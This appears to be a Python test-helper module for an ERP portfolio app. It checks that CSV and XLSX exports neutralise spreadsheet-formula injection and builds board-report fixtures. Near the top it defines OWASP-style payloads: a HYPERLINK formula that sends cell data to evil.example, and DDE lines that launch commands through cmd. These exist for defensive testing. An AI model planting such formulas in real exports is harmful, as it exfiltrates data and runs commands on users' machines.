"""A small portfolio with spreadsheet-formula payloads planted where people and the ERP
type text (account names, tender titles, distributor names), and readers that open an
export the way a user's program would and check that no payload can run."""

from __future__ import annotations

import csv
import datetime as dt
import html
import io
import re
from decimal import Decimal, InvalidOperation
from typing import Any

from openpyxl import load_workbook
from openpyxl.workbook import Workbook

from plans.models import Tender
from tests.factories import (
    AccountFactory,
    DistributorFactory,
    DistributorLinkFactory,
    RevenueLineFactory,
    TenderFactory,
)
from tests.reports.portfolio_builders import build_period

# OWASP's examples: a link that sends the sheet's data away, DDE command lines, and the
# tab / carriage return some programs skip before they look for a formula.
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
PLUS = "+cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
TAB = "\t=1+1"
CR = "\r=2+2"
FORMULA_STARTERS = ("=", "+", "-", "@", "\t", "\r")


def plant_portfolio(kam, other_kam) -> dict[str, Any]:
    """kam1 owns K1-0..K1-3 (K1-3 with a negative revenue: a credit note), kam2 owns
    K2-0 (in the dependency risk: 18 % of revenue) and K2-1. Period 2025 has metrics."""
    mine = [
        AccountFactory(external_id="K1-0", name=HYPERLINK, owner=kam),
        AccountFactory(external_id="K1-1", name=PLUS, owner=kam),
        AccountFactory(external_id="K1-2", name="Кузнец", owner=kam),
        AccountFactory(external_id="K1-3", name=TAB, owner=kam),
    ]
    theirs = [
        AccountFactory(external_id="K2-0", name=AT, owner=other_kam),
        AccountFactory(external_id="K2-1", name="Their second", owner=other_kam),
    ]
    revenues = dict(zip(mine + theirs, [500, 300, 100, -40, 200, 40], strict=True))
    build_period(
        "2025", "year", dt.date(2025, 1, 1), dt.date(2025, 12, 31), revenues, write_accounts=True
    )
    tenders = [
        TenderFactory(account=mine[0], title=HYPERLINK, stage=Tender.Stage.IDENTIFIED),
        TenderFactory(account=mine[0], title=MINUS, reference=CR, stage=Tender.Stage.SUBMITTED),
        TenderFactory(
            account=mine[1],
            title=AT,
            stage=Tender.Stage.WON,
            outcome_reason=PLUS,
            decision_date=dt.date(2025, 5, 5),
            estimated_value=Decimal("1000.00"),
        ),
        TenderFactory(account=theirs[0], title="Their tender", estimated_value=Decimal("70.00")),
    ]
    ours = DistributorFactory(external_id="D1", name=HYPERLINK)
    other = DistributorFactory(external_id="D2", name=MINUS)
    RevenueLineFactory(account=mine[0], distributor=ours, amount=Decimal("120.00"))
    RevenueLineFactory(account=mine[3], distributor=ours, amount=Decimal("-30.00"))
    RevenueLineFactory(account=theirs[0], distributor=other, amount=Decimal("80.00"))
    DistributorLinkFactory(distributor=ours, account=mine[1])
    return {"mine": mine, "theirs": theirs, "tenders": tenders, "distributors": [ours, other]}


def is_number(text: str, decimal: str = ".") -> bool:
    try:
        Decimal(text.replace(decimal, "."))
    except InvalidOperation:
        return False
    return True


def read_csv(content: bytes, *, delimiter: str = ",", decimal: str = ".") -> list[list[str]]:
    """The rows as Excel would read them, after checking that no field can run: every
    field that begins with a formula character is a number (a negative amount)."""
    assert content.startswith("\ufeff".encode()), "UTF-8 BOM, so Excel reads Cyrillic"
    text = content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))
    for row in rows:
        for field in row:
            assert not field.startswith(FORMULA_STARTERS) or is_number(field, decimal), field
    return rows


def csv_text(rows: list[list[str]]) -> str:
    return "\n".join("|".join(row) for row in rows)


def read_xlsx(content: bytes) -> Workbook:
    """The workbook, after checking that no cell is a formula and that every text cell
    beginning with a formula character is typed text with Excel's quote prefix."""
    book = load_workbook(io.BytesIO(content))
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTERS):
                    assert cell.data_type == "s", (ws.title, cell.coordinate)
                    assert cell.quotePrefix, (ws.title, cell.coordinate)
    return book


def sheet_rows(book: Workbook, title: str) -> list[tuple[Any, ...]]:
    return list(book[title].iter_rows(values_only=True))


def cell_of(book: Workbook, title: str, value: Any):
    """The first cell of the sheet holding exactly `value`."""
    for row in book[title].iter_rows():
        for cell in row:
            if cell.value == value:
                return cell
    raise AssertionError(f"{value!r} not in sheet {title}")


# --- a board's portfolio, and the figures its pages show ------------------------------
BIG = Decimal("48897775.60")  # the web rounds it to 48 897 776; the PDF used to truncate
BOARD_TTM = (dt.date(2025, 12, 1), dt.date(2026, 11, 30))


def plant_board(kam, other_kam) -> dict[str, Any]:
    """A ttm portfolio of 24 accounts with kopecks (Dec 2025 – Nov 2026), three of them
    at 10 % of revenue or more, and a month of the previous 12 for the growth."""
    named = [
        ("B-01", "Альфа Холдинг", BIG, kam),
        ("B-02", "Northwind Trading", Decimal("20000000.35"), kam),
        ("B-03", "Берёзка", Decimal("12345678.45"), other_kam),
    ]
    small = [
        (f"B-{i:02d}", f"Client {i:02d}", Decimal("1000000.00") + i * Decimal("37123.45"), kam)
        for i in range(4, 25)
    ]
    # Each account at 80 % of its potential: the page shows "80.0 %" ("80,0 %" in Russian).
    accounts = {
        AccountFactory(
            external_id=ext, name=name, owner=owner, potential_annual=revenue * 5 / 4
        ): revenue
        for ext, name, revenue, owner in named + small
    }
    growth = {a: 0.123456 * (i % 3 - 1) for i, a in enumerate(accounts)}
    build_period("ttm", "ttm", *BOARD_TTM, accounts, growth=growth, write_accounts=True)
    first = next(iter(accounts))
    build_period("2025-06", "month", dt.date(2025, 6, 1), dt.date(2025, 6, 30), {first: 90_000_000})
    return {"accounts": list(accounts)}


def normalise(text: str) -> str:
    """Text as a reader compares it: entities decoded, any space (a no-break space is the
    Russian thousands separator) one plain space."""
    return re.sub(r"\s+", " ", html.unescape(text).replace("\u202f", " ")).strip()


def by_id(page: str, element_id: str) -> str:
    """The text of the element with that id."""
    found = re.search(rf'id="{element_id}"[^>]*>(.*?)</(?:p|span|td|div)>', page, re.S)
    assert found, element_id
    return normalise(re.sub(r"<[^>]+>", "", found[1]))


def table_rows(page: str, table_id: str) -> list[list[str]]:
    """The body rows of a table, each cell's text."""
    table = re.search(rf'id="{table_id}".*?<tbody>(.*?)</tbody>', page, re.S)
    assert table, table_id
    return [
        [
            normalise(re.sub(r"<[^>]+>", " ", cell))
            for cell in re.findall(r"<td[^>]*>(.*?)</td>", row, re.S)
        ]
        for row in re.findall(r"<tr[^>]*>(.*?)</tr>", table[1], re.S)
    ]


def account_rows(page: str) -> dict[str, list[str]]:
    """The accounts table's rows by external id, each cell's text."""
    return {
        ext: [
            normalise(re.sub(r"<[^>]+>", " ", c))
            for c in re.findall(r"<td[^>]*>(.*?)</td>", row, re.S)
        ]
        for ext, row in re.findall(r'<tr data-external-id="([^"]+)">(.*?)</tr>', page, re.S)
    }
